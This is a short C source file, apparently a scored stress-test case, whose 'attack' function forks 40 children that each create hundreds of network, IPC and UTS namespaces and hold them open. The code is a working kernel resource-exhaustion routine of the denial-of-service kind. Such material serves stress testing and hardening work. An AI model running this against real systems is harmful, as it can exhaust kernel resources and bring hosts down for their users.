// Makes namespaces and keeps them.
// Points: any
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <unistd.h>
static void attack(void)
{
    for (int i = 0; i < 40; i++)
        if (fork() == 0) {
            for (int j = 0; j < 200; j++) {
                unshare(CLONE_NEWNET | CLONE_NEWIPC | CLONE_NEWUTS);
                open("/proc/self/ns/net", O_RDONLY);
            }
            pause();
        }
}
